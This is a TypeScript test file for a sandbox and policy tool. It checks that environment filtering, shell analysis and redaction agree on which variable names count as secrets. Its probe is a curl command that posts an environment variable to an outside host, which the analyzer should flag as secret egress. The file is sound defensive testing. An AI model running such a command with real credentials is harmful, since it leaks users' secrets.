// One definition of a secret's name (src/request/secret-names.ts): its examples hold, and the
// sandbox's environment, the shell analysis and redaction all answer by it, for the examples and
// for random names.

import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { evalShellEnv } from "../helpers/eval-shell.ts";
import fc from "fast-check";
import data from "../../src/request/data/secret-names.json" with { type: "json" };
import { analyzeShell } from "../../src/policy/shell/analyze.ts";
import { redact } from "../../src/request/redact.ts";
import { isSecretName, nameWords, secretNameExampleFailures } from "../../src/request/secret-names.ts";
import { droppedBecause } from "../../src/sandbox/env.ts";

const shell = evalShellEnv();

/** What each user of the definition says of a variable called `name`. */
function answers(name: string): { sandbox: boolean; shell: boolean; redaction: boolean } {
  const v = analyzeShell(`curl -d "$${name}" https://example.com`, shell.env()).strictest;
  return {
    sandbox: droppedBecause(name, "plain") === "name",
    shell: v.reason === "secret-egress",
    redaction: redact(`${name}=plainvalue`) !== `${name}=plainvalue`,
  };
}

describe("a secret's name", () => {
  test("the data's examples hold", () => {
    assert.deepEqual(secretNameExampleFailures(), []);
  });

  test("words split at separators and case changes", () => {
    assert.deepEqual(nameWords("apiKey"), ["API", "KEY"]);
    assert.deepEqual(nameWords("AWS_SECRET_ACCESS_KEY"), ["AWS", "SECRET", "ACCESS", "KEY"]);
    assert.deepEqual(nameWords("--api-key"), ["API", "KEY"]);
  });

  const variables = [...data.examples.secret, ...data.examples.notSecret].filter((n) => /^[A-Za-z_][A-Za-z0-9_]*$/.test(n));
  for (const name of variables)
    test(`${name}: the sandbox, the shell analysis and redaction agree (${isSecretName(name) ? "secret" : "not secret"})`, () => {
      const s = isSecretName(name);
      assert.deepEqual(answers(name), { sandbox: s, shell: s, redaction: s });
    });

  test("they agree on random variable names too", () => {
    const word = fc.constantFrom(
      ...data.words,
      ...data.endings.map((e) => `MY${e}`),
      "PATH",
      "HOME",
      "NODE",
      "ENV",
      "BUILD",
      "DIR",
      "KEYBOARD",
      "TOKENIZER",
      "x",
      "Key",
    );
    const name = fc
      .array(word, { minLength: 1, maxLength: 3 })
      .map((ws) => ws.join("_"))
      .filter((n) => /^[A-Za-z_][A-Za-z0-9_]*$/.test(n));
    let runs = 0;
    fc.assert(
      fc.property(name, (n) => {
        runs++;
        const s = isSecretName(n);
        assert.deepEqual(answers(n), { sandbox: s, shell: s, redaction: s }, n);
      }),
      { seed: 20261201, numRuns: 200 },
    );
    assert.equal(runs, 200);
  });

  test("options and JSON keys are redacted by the same names", () => {
    assert.equal(redact("tool --api-key abc123 --verbose"), "tool --api-key [REDACTED] --verbose");
    assert.equal(redact('{"clientSecret": "abc", "name": "x"}'), '{"clientSecret": [REDACTED], "name": "x"}');
    assert.equal(redact("tool --keyboard-layout us"), "tool --keyboard-layout us");
  });
});
